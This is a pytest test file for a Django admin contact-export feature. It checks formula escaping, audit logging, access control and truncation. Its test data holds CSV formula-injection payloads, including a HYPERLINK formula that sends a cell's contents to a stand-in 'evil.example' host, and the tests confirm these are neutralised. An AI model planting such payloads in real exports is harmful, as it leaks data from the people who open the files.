"""Contacts in the admin: search and export with the product's columns, but no import."""

import csv
import io
import re

import pytest
from django.contrib import admin
from django.db import connections
from django.test.utils import CaptureQueriesContext
from import_export.admin import ExportMixin

from accounts.models import AuditEntry, User, Workspace
from adminpanel.admin import contacts
from adminpanel.admin.exporting import SafeExportMixin
from contacts.exports import sources
from contacts.models import Contact, ContactField
from kernel.tenancy import scope
from tests import factories

ADMIN = "/admin/contacts/contact/"


@pytest.fixture
def staff(alice, as_user):
    User.objects.filter(pk=alice.pk).update(is_staff=True, is_superuser=True)
    return as_user(User.objects.get(pk=alice.pk))


def test_staff_export_with_the_products_columns_and_it_is_noted(acme, beta, staff):
    with scope(acme):
        ContactField.objects.create(name="city", label="City")
        Contact.objects.create(
            email="ana@example.com", phone="+33612345678", first_name="=cmd()", attributes={"city": "Lyon"}
        )
    with scope(beta):
        factories.contacts(2)
    page = staff.get(ADMIN)
    assert page.status_code == 200 and b"ana@example.com" in page.content
    assert b"ana@example.com" in staff.get(ADMIN + "?q=ana@example.com").content
    assert staff.get(ADMIN + "export/").status_code == 200
    answer = staff.post(
        ADMIN + "export/?q=ana@example.com", {"format": "0", "resource": "0", "contactresource_id": "on"}
    )
    rows = list(csv.DictReader(io.StringIO(answer.content.decode())))
    assert list(rows[0]) == ["workspace", *sources.FIXED, "fields"]
    assert [(row["email"], row["first_name"], row["phone"], row["fields"]) for row in rows] == [
        ("ana@example.com", "'=cmd()", "+33612345678", "city=Lyon")
    ]
    with scope(acme):
        assert AuditEntry.objects.get(verb="contacts.exported_by_staff").detail == {"number": 1}
    with scope(beta):
        assert not AuditEntry.objects.filter(verb="contacts.exported_by_staff").exists()


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A2,"Open")', "@SUM(1)", "＝1+1"])
def test_a_workspaces_name_is_no_formula(acme, staff, name):
    Workspace.objects.filter(pk=acme.pk).update(name=name)
    form = {"format": "0", "resource": "0"} | {f"workspaceresource_{field}": "on" for field in ("id", "name", "slug")}
    answer = staff.post("/admin/accounts/workspace/export/", form)
    (row,) = csv.DictReader(io.StringIO(answer.content.decode()))
    assert (row["name"], row["slug"]) == ("'" + name, "acme")


@pytest.mark.parametrize("path", [ADMIN, "/admin/accounts/workspace/"])
def test_the_page_has_nothing_that_the_policy_refuses(acme, staff, path):
    page = staff.get(path + "export/").content.decode()
    assert not re.search(r"\son[a-z]+=|\sstyle=|<script(?![^>]*\ssrc=)[^>]*>(?!\s*</script>)|<style", page)


def test_every_export_of_the_admin_is_safe():
    admins = [type(one) for one in admin.site._registry.values() if isinstance(one, ExportMixin)]
    assert admins and all(issubclass(one, SafeExportMixin) for one in admins)


def test_there_is_no_import_and_no_change(acme, staff):
    with scope(acme):
        (person,) = factories.contacts(1)
    assert staff.get(ADMIN + "import/").status_code in (302, 404)
    assert staff.get(ADMIN + "add/").status_code == 403
    assert staff.post(f"{ADMIN}{person.pk}/change/", {"email": "x@example.com"}).status_code == 403


def test_people_who_are_not_staff_see_nothing(acme, bob, as_user):
    assert as_user(bob).get(ADMIN).status_code in (302, 403)
    assert as_user(bob).get(ADMIN + "export/").status_code in (302, 403)


def test_search_is_by_the_whole_address_and_by_the_key(acme, beta, staff):
    for workspace in (acme, beta):
        with scope(workspace):
            factories.contacts(2)
    with CaptureQueriesContext(connections["engine"]) as queries:
        page = staff.get(ADMIN + "?q=P1@example.com").content.decode()
    assert page.count("p1@example.com") == 2 and "p0@example.com" not in page
    assert "p1@example.com" not in staff.get(ADMIN + "?q=p1").content.decode()
    sql = " ".join(query["sql"] for query in queries)
    assert "UPPER" not in sql and "SELECT DISTINCT" not in sql


def test_an_export_that_is_cut_off_says_so(acme, staff, monkeypatch):
    monkeypatch.setattr(contacts, "MAX_ROWS", 3)
    with scope(acme):
        factories.contacts(4)
    form = {"format": "0", "resource": "0", "contactresource_id": "on"}
    rows = staff.post(ADMIN + "export/", form).content.decode().splitlines()
    assert len(rows) == 1 + 3
    assert "only the newest 3 contacts" in staff.get(ADMIN).content.decode()
    with scope(acme):
        assert AuditEntry.objects.get(verb="contacts.exported_by_staff").detail == {"number": 3}
        Contact.objects.filter(email="p0@example.com").delete()
    staff.post(ADMIN + "export/", form)
    assert "only the newest" not in staff.get(ADMIN).content.decode()
